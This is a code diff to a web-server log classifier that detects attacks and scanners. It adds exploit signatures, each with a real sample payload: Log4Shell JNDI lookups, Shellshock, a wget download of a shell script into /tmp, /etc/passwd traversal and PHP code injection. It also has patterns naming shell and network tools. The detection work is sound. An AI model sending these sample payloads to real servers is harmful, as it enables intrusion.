@@ -123,10 +123,10 @@ export const PAYLOAD_PATTERNS: ReadonlyArray<readonly [string, RegExp]> = [
     'cross-site scripting',
     /<\s*\/?\s*(script|svg|iframe|img|body|object|embed)\b|javascript\s*:|\bon(error|load|mouseover|focus|click|toggle)\s*=|alert\s*\(|prompt\s*\(|document\.(cookie|domain)/,
   ],
-  ['path traversal', /\.\.[/\\]|\/etc\/(passwd|shadow|hosts|group)|boot\.ini|win\.ini|\/proc\/self\/|(php|file|expect|zip|phar|data):\/\//],
+  ['path traversal', /\.\.[/\\]|\/etc\/(passwd|shadow|hosts|group)|boot\.ini|win\.ini|\/proc\/self\/|(php|expect|zip|phar):\/\//],
   [
     'command injection',
-    /[;|`&]\s*(cat|id|ls|wget|curl|uname|whoami|nc|ncat|bash|sh|ping|echo|chmod|rm)\b|\$\([^)]*\)|\$\{[\w:-]*:|\/bin\/(ba)?sh\b|cmd\.exe|powershell/,
+    /(;|\|\|?|&&|`)\s*(cat|id|ls|wget|curl|uname|whoami|nc|ncat|bash|sh|ping|echo|chmod|rm)(?![\w=.-])|\$\([^)]*\)|\$\{[\w:-]*:|\/bin\/(ba)?sh\b|cmd\.exe|powershell/,
   ],
   [
     'exploit',
@@ -134,13 +134,37 @@ export const PAYLOAD_PATTERNS: ReadonlyArray<readonly [string, RegExp]> = [
   ],
 ];
 
+/**
+ * The characters without which no payload pattern can match (after decoding: "%" stands for every encoded
+ * one, "+" and a space for the separators). One table, read by the text check inside payloadKind and by the
+ * byte check the readers run before they make a string, so every log format gets the same answer.
+ */
+const PAYLOAD_CHARS = new Uint8Array(256);
+for (const ch of `%'"<(;|\`$\{[\\+ :`) PAYLOAD_CHARS[ch.charCodeAt(0)] = 1;
+
+/** Whether text may hold a payload: one of PAYLOAD_CHARS, or "..". */
+function mayHoldPayloadText(text: string): boolean {
+  for (let i = 0; i < text.length; i++) {
+    const c = text.charCodeAt(i);
+    if (c < 256 && PAYLOAD_CHARS[c] === 1) return true;
+    if (c === 0x2e && text.charCodeAt(i + 1) === 0x2e) return true;
+  }
+  return false;
+}
+
 /** The kind of attack payload in a path or query, or null. */
 export function payloadKind(text: string): string | null {
-  let t = text;
-  for (let i = 0; i < 2 && t.includes('%'); i++) t = percentDecode(t);
-  t = t.replace(/\+/g, ' ').toLowerCase();
+  if (!mayHoldPayloadText(text)) return null;
+  const t = decoded(text);
   for (const [kind, re] of PAYLOAD_PATTERNS) if (re.test(t)) return kind;
   return null;
+}
+
+/** Percent-decoded twice (payloads are often encoded twice), "+" read as a space, lower-cased. */
+function decoded(text: string): string {
+  let t = text;
+  for (let i = 0; i < 2 && t.includes('%'); i++) t = percentDecode(t);
+  return t.replace(/\+/g, ' ').toLowerCase();
 }
 
 function percentDecode(s: string): string {
@@ -148,15 +172,13 @@ function percentDecode(s: string): string {
 }
 
 /**
- * Whether bytes [start, end) hold a character that any payload needs (quote, angle bracket, parenthesis,
- * percent, semicolon, pipe, backtick, dollar, brace, "..", backslash): most queries hold none and need no
- * closer look.
+ * Whether bytes [start, end) may hold a payload (the same test as payloadKind's own, on bytes): most queries
+ * hold none of PAYLOAD_CHARS and need no string and no closer look.
  */
 export function mayHoldPayload(buf: Uint8Array, start: number, end: number): boolean {
   for (let i = start; i < end; i++) {
     const c = buf[i]!;
-    if (c === 0x25 || c === 0x27 || c === 0x22 || c === 0x3c || c === 0x28 || c === 0x3b || c === 0x7c || c === 0x60 || c === 0x24 || c === 0x7b || c === 0x5c)
-      return true;
+    if (PAYLOAD_CHARS[c] === 1) return true;
     if (c === 0x2e && buf[i + 1] === 0x2e) return true;
   }
   return false;
@@ -174,27 +196,276 @@ export const WELL_KNOWN_PATTERNS: readonly RegExp[] = [
   /^\/\.well-known\/(security\.txt|apple-app-site-association|assetlinks\.json|change-password|traffic-advice)$/,
 ];
 
+/**
+ * Unmistakable attacks: strings no browser, crawler, app or integration sends, in any field of a request
+ * (path, query, user agent, referer, X-Forwarded-For). One of them is evidence of intent whatever else the
+ * client does (`--exploit-min`, default 1). Matched on the decoded, lower-cased text (see `decoded`); each
+ * entry carries a real sample, and test/features/classify.test.ts checks every sample fires and a corpus of
+ * ordinary requests does not (as fail2ban keeps annotated sample lines beside its filters).
+ */
+export interface Signature {
+  readonly name: string;
+  readonly re: RegExp;
+  readonly sample: string;
+  /** Only in the request target (a header may hold it innocently: a referer is an absolute URL). */
+  readonly targetOnly?: boolean;
+}
+
+export const EXPLOIT_SIGNATURES: readonly Signature[] = [
+  { name: 'JNDI lookup (Log4Shell)', re: /\$\{\s*(jndi|\$\{|::-|lower:|upper:|env:|sys:|date:|base64:)/, sample: '${jndi:ldap://203.0.113.9:1389/a}' },
+  {
+    name: 'Text4Shell lookup',
+    re: /\$\{(script|dns|url):/,
+    sample: '/?search=%24%7Bscript%3Ajavascript%3Ajava.lang.Runtime.getRuntime%28%29.exec%28%27id%27%29%7D',
+  },
+  {
+    name: 'OGNL injection (Confluence, Struts)',
+    re: /\$\{\s*\(?#|%\{\s*\(?#|@java\.lang\.runtime@|ognl\.ognlcontext/,
+    sample: '/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%29%7D/',
+  },
+  { name: 'Shellshock', re: /\(\)\s*\{[^}]*\}\s*;/, sample: '() { :; }; /bin/bash -c "echo; id"' },
+  {
+    name: 'system file read',
+    re: /\/etc\/(passwd|shadow)\b|\/proc\/self\/(environ|cmdline)|\bwin\.ini\b|\bboot\.ini\b/,
+    sample: '/download?file=..%2f..%2f..%2fetc%2fpasswd',
+  },
+  {
+    name: 'Windows shell (Code Red, Nimda)',
+    re: /\/(cmd|root)\.exe\b|\/default\.ida\b|\/winnt\/system32\/|\/c\/winnt\/|\/nsiislog\.dll\b|\/_vti_bin\/owssvr\.dll\?|\/msadc\/msadcs\.dll/,
+    sample: '/scripts/..%c0%af../winnt/system32/cmd.exe?/c+dir',
+  },
+  {
+    name: 'shell run from the request',
+    re: /\/bin\/(ba)?sh\b|\b(wget|curl)\s+-?\w*\s*https?:\/\/|\bcd\s+\/tmp\b|\bchmod\s+(\+x|777)\b|\bbusybox\b/,
+    sample: '/shell?cd+/tmp;wget+http://198.51.100.7/x.sh',
+  },
+  { name: 'Apache path traversal (CVE-2021-41773/42013)', re: /\/cgi-bin\/(\.\.|\.%2e|%2e\.)\//, sample: '/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh' },
+  {
+    name: 'PHP code injection',
+    re: /<\?php|allow_url_include|auto_prepend_file|php:\/\/input|base64_decode\s*\(|\b(shell_exec|passthru|proc_open|popen)\s*\(|\bsystem\s*\(|\beval\s*\(/,
+    sample: '/index.php?-d+allow_url_include%3don+-d+auto_prepend_file%3dphp://input',
+  },
+  {
+    name: 'ThinkPHP RCE',
+    re: /invokefunction|call_user_func_array|think\\app/,
+    sample: '/index.php?s=/index/think/app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=x',
+  },
+  { name: 'PHPUnit RCE (CVE-2017-9841)', re: /eval-stdin\.php/, sample: '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php' },
+  { name: 'Spring4Shell', re: /class\.module\.classloader/, sample: '/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x' },
+  {
+    name: 'router exploit (GPON, Boa, Netgear, D-Link)',
+    re: /\/gponform\/diag_form|\/boaform\/admin\/formlogin|\/setup\.cgi\?.*cmd=|\/cgi-bin\/(luci|admin\.cgi)[^ ]*(;|\$\()|\/hnap1\/.*(;|`)/,
+    sample: '/GponForm/diag_Form?images/',
+  },
+  {
+    name: 'open proxy probe (CONNECT, absolute URI)',
+    re: /^(([a-z0-9-]+\.)+[a-z]{2,}|\d{1,3}(\.\d{1,3}){3}):\d{1,5}$|^https?:\/\//,
+    sample: 'maila.microsoft.com:25',
+    targetOnly: true,
+  },
+  {
+    name: 'buffer overflow or control bytes (WebDAV SEARCH, null byte)',
+    re: /[\x00-\x08\x0e-\x1f\x7f]|(.{1,4})\1{127,}/,
+    sample: `/${'\xb1\x02'.repeat(80)}`,
+    targetOnly: true,
+  },
+  {
+    name: 'SQL injection in a header',
+    re: /union(\s|\/\*\*\/)+(all\s+)?select\b|'\s*or\s+'?1'?\s*=\s*'?1|\bsleep\s*\(\s*\d+\s*\)|waitfor\s+delay/,
+    sample: "Mozilla/5.0' OR '1'='1",
+  },
+  { name: 'script injection in a header', re: /<\s*script\b|javascript\s*:\s*alert/, sample: '<script>alert(1)</script>' },
+];
+
+/**
+ * Scanners that name themselves, in their user agent or in the requests they make. A client sending one of
+ * these is scanning the site, however few its requests.
+ */
+export const SCANNER_MARKS: readonly Signature[] = [
+  { name: 'sqlmap', re: /\bsqlmap\//, sample: 'sqlmap/1.7.2#stable (https://sqlmap.org)' },
+  { name: 'Nikto', re: /\bnikto\b|\/nikto-test/, sample: 'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)' },
+  { name: 'Acunetix', re: /acunetix|\/acunetix-wvs-test/, sample: '/acunetix-wvs-test-for-some-inexistent-file' },
+  { name: 'w3af', re: /\bw3af\b/, sample: 'w3af.org' },
+  { name: 'masscan', re: /\bmasscan\b/, sample: 'masscan/1.3 (https://github.com/robertdavidgraham/masscan)' },
+  { name: 'zgrab', re: /\bzgrab\b/, sample: 'Mozilla/5.0 zgrab/0.x' },
+  { name: 'Nmap', re: /nmap scripting engine|\bnmap\b/, sample: 'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)' },
+  { name: 'Nuclei', re: /\bnuclei\b/, sample: 'Nuclei - Open-source project (github.com/projectdiscovery/nuclei)' },
+  { name: 'WPScan', re: /\bwpscan\b/, sample: 'WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)' },
+  {
+    name: 'DirBuster, gobuster, ffuf, wfuzz',
+    re: /dirbuster|gobuster|fuzz faster u fool|\bwfuzz\b|\bferoxbuster\b/,
+    sample: 'DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)',
+  },
+  {
+    name: 'OpenVAS, Nessus, Netsparker',
+    re: /\bopenvas\b|\bnessus\b|netsparker|\bappscan_fingerprint\b/,
+    sample: 'Mozilla/5.0 [en] (X11, U; OpenVAS-VT 9.0.3)',
+  },
+  { name: 'ZmEu, Morfeus, Jorgee', re: /\bzmeu\b|morfeus f[a-z]+ scanner|\bjorgee\b/, sample: 'ZmEu' },
+  { name: 'DFind (w00tw00t)', re: /w00tw00t\.at\./, sample: '/w00tw00t.at.ISC.SANS.DFind:)' },
+];
+
+/**
+ * Authentication targets, as data (extended by configuration): places a client proves who it is. `form`: a
+ * login page whose failed POST is answered 200 (the form shown again; WordPress, Joomla, xmlrpc.php answer
+ * every attempt so), a success being a redirect. `token`: an API's sign-in or token endpoint, where 200 is a
+ * success and 400/401/403/429 a refusal. Matched as lower-cased substrings of the path; a token pattern wins.
+ */
+export const AUTH_TARGETS: ReadonlyArray<{ readonly pattern: string; readonly kind: 'form' | 'token' }> = [
+  { pattern: '/oauth', kind: 'token' },
+  { pattern: '/token', kind: 'token' },
+  { pattern: '/api/auth', kind: 'token' },
+  { pattern: '/api/login', kind: 'token' },
+  { pattern: '/api/v1/login', kind: 'token' },
+  { pattern: '/api/v2/login', kind: 'token' },
+  { pattern: '/api/session', kind: 'token' },
+  { pattern: '/authenticate', kind: 'token' },
+  { pattern: '/refresh', kind: 'token' },
+  { pattern: 'wp-login.php', kind: 'form' },
+  { pattern: 'xmlrpc.php', kind: 'form' },
+  { pattern: '/administrator/index.php', kind: 'form' },
+  { pattern: '/login', kind: 'form' },
+  { pattern: '/signin', kind: 'form' },
+  { pattern: '/sign-in', kind: 'form' },
+  { pattern: '/sign_in', kind: 'form' },
+  { pattern: '/logon', kind: 'form' },
+  { pattern: '/session', kind: 'form' },
+  { pattern: '/auth/login', kind: 'form' },
+  { pattern: '/auth/signin', kind: 'form' },
+  { pattern: '/admin/login', kind: 'form' },
+  { pattern: 'j_security_check', kind: 'form' },
+  { pattern: '/user/login', kind: 'form' },
+];
+
 export const PATH_STATIC = 1;
 export const PATH_SENSITIVE = 2;
 export const PATH_PAYLOAD = 4;
 export const PATH_WELL_KNOWN = 8;
+/** An authentication target where a failed POST is answered 200 (AUTH_TARGETS `form`). */
+export const PATH_AUTH_FORM = 16;
+/** An authentication target where 200 means success (AUTH_TARGETS `token`). */
+export const PATH_AUTH_TOKEN = 32;
+/** An unmistakable attack (EXPLOIT_SIGNATURES) or a scanner's own mark (SCANNER_MARKS: also PATH_SCANNER). */
+export const PATH_EXPLOIT = 64;
+export const PATH_SCANNER = 128;
 
 const staticSet = new Set(STATIC_EXTENSIONS);
+/** Extensions of server-side scripts and executables. */
+const SCRIPT_EXTENSIONS = new Set([
+  'php',
+  'php3',
+  'php4',
+  'php5',
+  'phtml',
+  'asp',
+  'aspx',
+  'ashx',
+  'asmx',
+  'jsp',
+  'jspa',
+  'do',
+  'action',
+  'cgi',
+  'pl',
+  'py',
+  'sh',
+  'exe',
+  'dll',
+  'cfm',
+]);
+const anyOf = (sigs: readonly Signature[]) => new RegExp(sigs.map((s) => `(?:${s.re.source})`).join('|'));
+const ANY_INTENT = {
+  target: anyOf([...EXPLOIT_SIGNATURES, ...SCANNER_MARKS]),
+  header: anyOf([...EXPLOIT_SIGNATURES, ...SCANNER_MARKS].filter((s) => !s.targetOnly)),
+};
 
-export function classifyPath(path: string): number {
+/** EXPLOIT_SIGNATURES and SCANNER_MARKS in decoded text: PATH_EXPLOIT, PATH_SCANNER or 0. */
+function intentFlags(decodedText: string, where: 'target' | 'header'): number {
+  // One pass of every signature at once: nearly all text matches none of them.
+  if (!ANY_INTENT[where].test(decodedText)) return 0;
+  let flags = 0;
+  for (const s of EXPLOIT_SIGNATURES) if ((where === 'target' || !s.targetOnly) && s.re.test(decodedText)) flags |= PATH_EXPLOIT;
+  for (const s of SCANNER_MARKS) if (s.re.test(decodedText)) flags |= PATH_SCANNER;
+  return flags;
+}
+
+/** The names of the signatures and scanner marks a request target or header holds (for explanations and tests). */
+export function signaturesIn(text: string, where: 'target' | 'header'): string[] {
+  const t = where === 'header' ? decoded(unescapeLogged(text)) : decoded(text);
+  return [...EXPLOIT_SIGNATURES, ...SCANNER_MARKS].filter((s) => (where === 'target' || !s.targetOnly) && s.re.test(t)).map((s) => s.name);
+}
+
+/** The authentication class of a lower-cased path: PATH_AUTH_TOKEN, PATH_AUTH_FORM or 0. */
+function authFlags(lower: string, extra: readonly string[]): number {
+  let form = false;
+  for (const t of AUTH_TARGETS) {
+    if (!lower.includes(t.pattern)) continue;
+    if (t.kind === 'token') return PATH_AUTH_TOKEN;
+    form = true;
+  }
+  if (!form) for (const p of extra) if (lower.includes(p)) return PATH_AUTH_FORM;
+  return form ? PATH_AUTH_FORM : 0;
+}
+
+/**
+ * The classes of a request target (a path, or a path with its query). `authExtra`: more authentication
+ * targets (lower-cased substrings) from the configuration.
+ */
+export function classifyPath(path: string, authExtra: readonly string[] = []): number {
   const lower = path.toLowerCase();
   let flags = 0;
   if (WELL_KNOWN_PATTERNS.some((re) => re.test(lower))) flags |= PATH_WELL_KNOWN;
   if (payloadKind(path) !== null) flags |= PATH_PAYLOAD;
+  flags |= intentFlags(decoded(path), 'target');
   for (const p of SENSITIVE_PATTERNS) {
     if (lower.includes(p)) {
       flags |= PATH_SENSITIVE;
       break;
     }
   }
+  flags |= authFlags(lower.replace(/\/{2,}/g, '/'), authExtra);
   const dot = lower.lastIndexOf('.');
-  if (dot > lower.lastIndexOf('/') && staticSet.has(lower.slice(dot + 1))) flags |= PATH_STATIC;
+  if (dot > lower.lastIndexOf('/')) {
+    const ext = lower.slice(dot + 1);
+    if (staticSet.has(ext)) flags |= PATH_STATIC;
+    // A script is somewhere code runs: asked for and not there (a failure), it is a probe for a web shell or
+    // a known hole; answered, it is the site in use.
+    else if (SCRIPT_EXTENSIONS.has(ext)) flags |= PATH_SENSITIVE;
+  }
   return flags;
+}
+
+/** The classes of a query string: PATH_PAYLOAD, PATH_EXPLOIT, PATH_SCANNER. */
+export function classifyQuery(query: string): number {
+  if (!mayHoldPayloadText(query)) return intentFlags(query.toLowerCase(), 'target');
+  return (payloadKind(query) === null ? 0 : PATH_PAYLOAD) | intentFlags(decoded(query), 'target');
+}
+
+/**
+ * A header as the log wrote it (user agent, referer, X-Forwarded-For), unescaped as Apache and nginx escape
+ * it (`\"`, `\\`, `\xHH`), so that a combined line and a JSON line give the same text.
+ */
+export function unescapeLogged(text: string): string {
+  return text.includes('\\')
+    ? text.replace(/\\x([0-9a-fA-F]{2})|\\(["\\])/g, (_, h: string | undefined, c: string | undefined) => (h ? String.fromCharCode(parseInt(h, 16)) : c!))
+    : text;
+}
+
+/** The classes of a header's value: PATH_EXPLOIT and PATH_SCANNER (a header is no path: nothing else). */
+export function classifyHeader(text: string): number {
+  return intentFlags(decoded(unescapeLogged(text)), 'header');
+}
+
+/**
+ * Whether bytes [start, end) of a header may hold an exploit signature: "$", "{", "<", "'", "%" or "\"
+ * (escapes). Referers and forwarded-for values are not cached by hash: this spares nearly all of them a string.
+ */
+export function mayHoldHeaderExploit(buf: Uint8Array, start: number, end: number): boolean {
+  for (let i = start; i < end; i++) {
+    const c = buf[i]!;
+    if (c === 0x24 || c === 0x7b || c === 0x3c || c === 0x27 || c === 0x25 || c === 0x5c) return true;
+  }
+  return false;
 }
 
 /**
@@ -205,14 +476,14 @@ export function classifyPath(path: string): number {
 export class PathClassifier {
   private readonly keys: Int32Array;
   /** flags + 1 for a used slot, 0 for a free one. */
-  private readonly values: Int8Array;
+  private readonly values: Uint16Array;
   private readonly shift: number;
   private size = 0;
 
   constructor(private readonly limit = 1 << 16) {
     const bits = Math.ceil(Math.log2(limit * 2));
     this.keys = new Int32Array(1 << bits);
-    this.values = new Int8Array(1 << bits);
+    this.values = new Uint16Array(1 << bits);
     this.shift = 32 - bits;
   }
 
